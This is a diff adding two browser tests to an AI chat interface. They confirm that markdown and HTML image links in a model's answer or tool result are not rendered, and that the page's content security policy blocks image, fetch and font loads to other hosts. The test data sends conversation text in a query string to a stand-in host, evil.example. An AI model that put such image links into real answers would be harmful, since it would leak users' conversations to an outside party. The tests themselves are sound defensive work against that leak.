@@ -43,6 +43,46 @@ async def test_links_lead_to_the_web_only(browser: Browser) -> None:
         assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
 
 
+async def test_an_answer_loads_nothing_from_elsewhere(browser: Browser) -> None:
+    """An image is a link that somebody must follow: words cannot be carried away by merely being shown."""
+    secret = "https://evil.example/p.png?q=everything-that-was-said"
+    images = (
+        f"![a]({secret}) <img src='{secret}'> [![b]({secret})]({secret})\n\n[c]: {secret}\n\n| ![d]({secret}) |\n|-|"
+    )
+    async with Site().open() as site, visit(browser, site.url) as page:
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        await say(page, "Images?")
+        turn = await site.turn()
+        call = await turn.calls("read_page", {"url": secret})
+        await turn.returns(call, {"text": images})
+        await turn.says(images)
+        await turn.answers(images)
+        await expect(page.locator("#log")).to_have_attribute("aria-busy", "false")
+        await expect(page.locator(".markdown a").first).to_have_attribute("href", secret)
+        await expect(page.locator("#log :is(img, picture, video, audio, iframe, object, link, [style])")).to_have_count(
+            0
+        )
+        assert [url for url in asked if not url.startswith(site.url)] == []
+
+
+async def test_the_browser_itself_would_load_nothing_from_elsewhere(browser: Browser) -> None:
+    """Should an image ever get in, it stays empty, and so does every other way out that a page has."""
+    tries = """(url) => new Promise((done) => {
+      const refused = new Set();
+      document.addEventListener("securitypolicyviolation", (event) => {
+        refused.add(event.effectiveDirective);
+        if (refused.size === 3) done([...refused].sort());
+      });
+      new Image().src = url;
+      fetch(url).catch(() => {});
+      new FontFace("x", `url(${url})`).load().catch(() => {});
+    })"""
+    async with Site().open() as site, visit(browser, site.url) as page:
+        refused = await page.evaluate(tries, "http://127.0.0.1:9/p.png?q=everything")
+        assert refused == ["connect-src", "font-src", "img-src"]
+
+
 async def test_the_browser_itself_would_stop_a_script(browser: Browser) -> None:
     """Should a mistake of ours ever let HTML in, neither its scripts run nor does the assignment work."""
     async with Site().open() as site, visit(browser, site.url) as page:
